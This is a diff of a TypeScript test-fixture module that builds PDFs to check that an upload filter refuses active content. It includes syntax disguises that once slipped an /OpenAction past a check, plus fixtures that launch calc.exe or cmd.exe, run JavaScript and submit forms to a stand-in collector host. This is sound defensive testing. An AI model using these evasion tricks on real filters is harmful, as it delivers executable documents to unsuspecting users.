@@ -155,7 +155,7 @@ function assemblePdf(objects: Buffer[], { version = "1.4", root = 1 } = {}): Buf
   return Buffer.concat(parts);
 }
 
-const streamObject = (data: Buffer, dictionary = "") => Buffer.concat([Buffer.from(`<< /Length ${data.length}${dictionary} >>\nstream\n`), data, Buffer.from("\nendstream")]);
+const streamObject = (data: Buffer, dictionary = "", afterKeyword = "\n") => Buffer.concat([Buffer.from(`<< /Length ${data.length}${dictionary} >>\nstream${afterKeyword}`), data, Buffer.from("\nendstream")]);
 
 const pageObjects = (contentsRef: number, fontRef: number) => [
   Buffer.from("<< /Type /Catalog /Pages 2 0 R >>"),
@@ -185,43 +185,83 @@ export type PdfWithJavaScriptOptions = {
   packing?: "plain" | "object-stream" | "escaped-name";
   /** The action: "javascript" (/S /JavaScript /JS …) or "launch" (/S /Launch, runs a program). */
   action?: "javascript" | "launch";
+  /**
+   * With packing "object-stream", the syntax tricks that got an /OpenAction past the old
+   * hand-written check (issue 9), each read as written by pdf.js:
+   * "space-before-eol": `stream \n` (a space before the end of line after the keyword);
+   * "comment-before-index": a `%comment` line before the object stream's index;
+   * "escaped-predictor": the object stream PNG-predicted, with `/Decode#50arms` and `/Pr#65dictor`.
+   */
+  disguise?: ObjectStreamDisguise;
 };
 
+export type ObjectStreamDisguise = "space-before-eol" | "comment-before-index" | "escaped-predictor";
+
 /** A PDF that runs an action when opened (/OpenAction). Harmless payload: an alert, or launching "calc.exe". */
-export function pdfWithJavaScript({ packing = "plain", action = "javascript" }: PdfWithJavaScriptOptions = {}): Buffer {
+export function pdfWithJavaScript({ packing = "plain", action = "javascript", disguise }: PdfWithJavaScriptOptions = {}): Buffer {
   const actionType = packing === "escaped-name" ? "/J#61vaScript" : "/JavaScript";
   const actionDictionary =
     action === "launch" ? "<< /Type /Action /S /Launch /F (calc.exe) >>" : `<< /Type /Action /S ${actionType} /JS (app.alert\\('Hello from test-files'\\);) >>`;
-  const catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>";
-  const [, pages, page] = pageObjects(4, 5).map(String);
+  return testPdf({ catalog: "/OpenAction 6 0 R", objects: [actionDictionary], packing: packing === "object-stream" ? "object-stream" : "plain", ...(disguise ? { disguise } : {}) });
+}
 
-  if (packing !== "object-stream") {
-    return assemblePdf([Buffer.from(catalog), Buffer.from(pages!), Buffer.from(page!), streamObject(pageText("Open me")), helvetica, Buffer.from(actionDictionary)]);
-  }
-  return pdfWithObjectStream(
-    [catalog, pages!, page!, null, null, actionDictionary], // objects 1, 2, 3, 6 go in the object stream
-    [streamObject(pageText("Open me")), helvetica], // objects 4, 5 stay outside
-  );
+export type TestPdfOptions = {
+  /** Extra entries of the catalog (object 1), e.g. "/OpenAction 6 0 R". */
+  catalog?: string;
+  /** Extra entries of the one page (object 3), e.g. "/Annots [6 0 R]". */
+  page?: string;
+  /**
+   * Further objects, numbered from 6: a dictionary or array as PDF syntax, or
+   * `{ stream, dictionary }` for a stream object (always written outside object streams).
+   */
+  objects?: (string | { stream: string; dictionary?: string })[];
+  /** "object-stream": every non-stream object packed into one deflated object stream (PDF 1.5). */
+  packing?: "plain" | "object-stream";
+  disguise?: ObjectStreamDisguise;
+  /** Text shown on the page. */
+  text?: string;
+};
+
+/**
+ * A one-page PDF (objects 1 catalog, 2 pages, 3 page, 4 content, 5 font) with whatever extra
+ * catalog entries, page entries and objects a test needs: the way to build each PDF feature
+ * the upload check must refuse (or accept), written plainly or packed into an object stream.
+ */
+export function testPdf({ catalog = "", page = "", objects = [], packing = "plain", disguise, text = "Open me" }: TestPdfOptions = {}): Buffer {
+  const dictionaries = [
+    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
+    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${page} >>`,
+  ];
+  const all: (string | Buffer)[] = [...dictionaries, streamObject(pageText(text)), helvetica];
+  for (const object of objects) all.push(typeof object === "string" ? object : streamObject(Buffer.from(object.stream, "latin1"), object.dictionary ? ` ${object.dictionary}` : ""));
+  if (packing === "plain") return assemblePdf(all.map((object) => (typeof object === "string" ? Buffer.from(object, "latin1") : object)));
+  const packed = all.map((object) => (typeof object === "string" ? object : null));
+  const loose = all.filter((object): object is Buffer => typeof object !== "string");
+  return pdfWithObjectStream(packed, loose, disguise);
 }
 
 /**
- * A PDF 1.5 file whose small objects live in one deflated object stream (object 7), with the
- * cross-reference stream (object 8) that such files need. `packed[i]` is object i+1, or null
- * for the objects given in `loose` (in order).
+ * A PDF 1.5 file whose small objects live in one deflated object stream (numbered after the
+ * given objects), with the cross-reference stream (next number) that such files need.
+ * `packed[i]` is object i+1, or null for the objects given in `loose` (in order).
  */
-function pdfWithObjectStream(packed: (string | null)[], loose: Buffer[]): Buffer {
+function pdfWithObjectStream(packed: (string | null)[], loose: Buffer[], disguise?: ObjectStreamDisguise): Buffer {
   const objectStreamNumber = packed.length + 1;
   const xrefNumber = objectStreamNumber + 1;
   const inStream = packed.map((body, index) => ({ number: index + 1, body })).filter((o): o is { number: number; body: string } => o.body !== null);
 
-  let index = "";
+  let index = disguise === "comment-before-index" ? "%index of the packed objects\n" : "";
   let bodies = "";
   for (const object of inStream) {
     index += `${object.number} ${bodies.length} `;
     bodies += `${object.body}\n`;
   }
-  const objectStreamData = deflateSync(Buffer.from(index + bodies, "latin1"));
-  const objectStream = streamObject(objectStreamData, ` /Type /ObjStm /N ${inStream.length} /First ${index.length} /Filter /FlateDecode`);
+  const decoded = Buffer.from(index + bodies, "latin1");
+  const objectStream =
+    disguise === "escaped-predictor"
+      ? streamObject(deflateSync(pngUpPredicted(decoded, PREDICTOR_COLUMNS)), ` /Type /ObjStm /N ${inStream.length} /First ${index.length} /Filter /FlateDecode /Decode#50arms << /Pr#65dictor 12 /Columns ${PREDICTOR_COLUMNS} >>`)
+      : streamObject(deflateSync(decoded), ` /Type /ObjStm /N ${inStream.length} /First ${index.length} /Filter /FlateDecode`, disguise === "space-before-eol" ? " \n" : "\n");
 
   const parts: Buffer[] = [Buffer.from("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n", "latin1")];
   let length = parts[0]!.length;
@@ -253,6 +293,21 @@ function pdfWithObjectStream(packed: (string | null)[], loose: Buffer[]): Buffer
   return Buffer.concat(parts);
 }
 
+const PREDICTOR_COLUMNS = 8;
+
+/** PNG "Up" prediction (type 2) of every row of `columns` bytes, as /Predictor 12 readers undo it. */
+function pngUpPredicted(data: Buffer, columns: number): Buffer {
+  const padded = Buffer.concat([data, Buffer.alloc((columns - (data.length % columns)) % columns, 0x20)]);
+  const out: Buffer[] = [];
+  for (let start = 0; start < padded.length; start += columns) {
+    const rowBytes = Buffer.alloc(columns + 1);
+    rowBytes[0] = 2;
+    for (let i = 0; i < columns; i++) rowBytes[i + 1] = (padded[start + i]! - (start === 0 ? 0 : padded[start - columns + i]!)) & 0xff;
+    out.push(rowBytes);
+  }
+  return Buffer.concat(out);
+}
+
 function row(type: number, field2: number, field3: number): Buffer {
   const bytes = Buffer.alloc(7);
   bytes.writeUInt8(type, 0);
@@ -260,6 +315,79 @@ function row(type: number, field2: number, field3: number): Buffer {
   bytes.writeUInt16BE(field3, 5);
   return bytes;
 }
+
+/** A link annotation over the page's first line, doing `action` (PDF syntax of an action dictionary). */
+const linkAnnotation = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] /A ${action} >>`;
+const javaScriptAction = "<< /S /JavaScript /JS (app.alert\\(1\\);) >>";
+const embeddedFile = { stream: "Notes: call back Tuesday.", dictionary: "/Type /EmbeddedFile /Subtype /text#2Fplain" };
+
+/**
+ * Every PDF feature the upload check must refuse, one fixture each (testPdf options): code
+ * that runs (JavaScript anywhere, actions that launch programs, send form data, import data
+ * or open other files), files carried inside, rich media and XFA forms, links that are not
+ * https. Each is built plainly and packed in an object stream by the tests.
+ */
+export const forbiddenPdfFeatures: Readonly<Record<string, TestPdfOptions>> = {
+  "/OpenAction JavaScript": { catalog: "/OpenAction 6 0 R", objects: [javaScriptAction] },
+  "/OpenAction JavaScript held in a stream": { catalog: "/OpenAction 6 0 R", objects: ["<< /S /JavaScript /JS 7 0 R >>", { stream: "app.alert(1);" }] },
+  "/OpenAction /Launch": { catalog: "/OpenAction << /S /Launch /F (calc.exe) >>" },
+  "/OpenAction with an escaped /L#61unch": { catalog: "/OpenAction << /S /L#61unch /F (calc.exe) >>" },
+  "/OpenAction /ImportData": { catalog: "/OpenAction << /S /ImportData /F (data.fdf) >>" },
+  "/OpenAction /GoToE (opens an embedded file)": { catalog: "/OpenAction << /S /GoToE /T << /R /C /N (inner.pdf) >> /D [0 /Fit] >>" },
+  "/OpenAction /Rendition (media)": { catalog: "/OpenAction << /S /Rendition /OP 0 >>" },
+  "/OpenAction named menu command (Print)": { catalog: "/OpenAction << /S /Named /N /Print >>" },
+  "/OpenAction GoTo chained to JavaScript (/Next)": { catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", objects: [javaScriptAction] },
+  "document-level JavaScript (/Names /JavaScript)": { catalog: "/Names << /JavaScript 6 0 R >>", objects: ["<< /Names [(init) 7 0 R] >>", javaScriptAction] },
+  "page /AA (on open) JavaScript": { page: "/AA << /O 6 0 R >>", objects: [javaScriptAction] },
+  "page /AA (on open) of an unlisted action type": { page: "/AA << /O << /S /SetOCGState /State [/OFF] >> >>" },
+  "form field /AA (keystroke) JavaScript": {
+    catalog: "/AcroForm << /Fields [6 0 R] >>",
+    page: "/Annots [6 0 R]",
+    objects: ["<< /Type /Annot /Subtype /Widget /FT /Tx /T (member) /Rect [72 600 300 620] /P 3 0 R /AA << /K 7 0 R >> >>", javaScriptAction],
+  },
+  "link /Launch": { page: "/Annots [6 0 R]", objects: [linkAnnotation("<< /S /Launch /F (cmd.exe) >>")] },
+  "link /SubmitForm": { page: "/Annots [6 0 R]", objects: [linkAnnotation("<< /S /SubmitForm /F << /FS /URL /F (https://collector.example/submit) >> >>")] },
+  "link /GoToR (opens another file)": { page: "/Annots [6 0 R]", objects: [linkAnnotation("<< /S /GoToR /F (\\\\server\\share\\other.pdf) /D [0 /Fit] >>")] },
+  "link /URI to http": { page: "/Annots [6 0 R]", objects: [linkAnnotation("<< /S /URI /URI (http://example.com/results) >>")] },
+  "link /URI to a file": { page: "/Annots [6 0 R]", objects: [linkAnnotation("<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")] },
+  "link /URI relative": { page: "/Annots [6 0 R]", objects: [linkAnnotation("<< /S /URI /URI (results.html) >>")] },
+  "link /URI held in another object, to http": { page: "/Annots [6 0 R]", objects: [linkAnnotation("<< /S /URI /URI 7 0 R >>"), "(http://example.com/)"] },
+  "embedded files (/Names /EmbeddedFiles)": {
+    catalog: "/Names << /EmbeddedFiles << /Names [(notes.txt) 6 0 R] >> >>",
+    objects: ["<< /Type /Filespec /F (notes.txt) /UF (notes.txt) /EF << /F 7 0 R >> >>", embeddedFile],
+  },
+  "file attachment annotation": {
+    page: "/Annots [6 0 R]",
+    objects: ["<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 7 0 R >>", "<< /Type /Filespec /F (notes.txt) /EF << /F 8 0 R >> >>", embeddedFile],
+  },
+  "rich media annotation": { page: "/Annots [6 0 R]", objects: ["<< /Type /Annot /Subtype /RichMedia /Rect [72 400 300 600] /RichMediaContent << /Assets << /Names [] >> >> >>"] },
+  "3D annotation": { page: "/Annots [6 0 R]", objects: ["<< /Type /Annot /Subtype /3D /Rect [72 400 300 600] >>"] },
+  "XFA form": { catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>", objects: [{ stream: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>' }] },
+};
+
+/**
+ * PDFs a member may well send, which the check must accept: links to https pages and within
+ * the document, an /OpenAction that only shows the first page, page navigation, forms
+ * without scripts, tagged (accessible) structure and page labels — dictionaries with /S
+ * entries that are not actions.
+ */
+export const acceptedPdfFeatures: Readonly<Record<string, TestPdfOptions>> = {
+  "a plain page": {},
+  "an https link": { page: "/Annots [6 0 R]", objects: [linkAnnotation("<< /S /URI /URI (https://www.example.org/lab-results?id=1) >>")] },
+  "an internal link and a GoTo action": { page: "/Annots [6 0 R 7 0 R]", objects: [`<< /Type /Annot /Subtype /Link /Rect [72 650 300 680] /Dest [3 0 R /Fit] >>`, linkAnnotation("<< /S /GoTo /D [3 0 R /XYZ 0 792 0] >>")] },
+  "/OpenAction showing page 1": { catalog: "/OpenAction [3 0 R /Fit] /PageMode /UseOutlines" },
+  "/OpenAction GoTo": { catalog: "/OpenAction << /Type /Action /S /GoTo /D [3 0 R /FitH 792] >>" },
+  "a next-page button": { page: "/Annots [6 0 R]", objects: [linkAnnotation("<< /S /Named /N /NextPage >>")] },
+  "a fillable form without scripts": {
+    catalog: "/AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf 0 g) >>",
+    page: "/Annots [6 0 R]",
+    objects: ["<< /Type /Annot /Subtype /Widget /FT /Tx /T (member) /V (Ana) /Rect [72 600 300 620] /P 3 0 R /BS << /S /S /W 1 >> >>"],
+  },
+  "tagged structure and page labels": {
+    catalog: "/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R /PageLabels << /Nums [0 << /S /D /St 1 >>] >>",
+    objects: ["<< /Type /StructTreeRoot /K 7 0 R >>", "<< /Type /StructElem /S /P /P 6 0 R /Pg 3 0 R /A << /O /Layout /Placement /Block >> /K 0 >>"],
+  },
+};
 
 /* ------------------------------------------------------------------ malware stand-ins */
 
